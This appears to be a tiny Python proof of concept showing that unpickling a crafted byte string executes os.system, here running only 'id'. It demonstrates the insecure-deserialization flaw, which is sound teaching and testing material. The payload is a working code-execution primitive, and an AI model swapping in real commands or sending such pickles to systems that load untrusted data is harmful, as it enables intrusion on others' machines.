# unpickling calls os.system
import pickle
pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
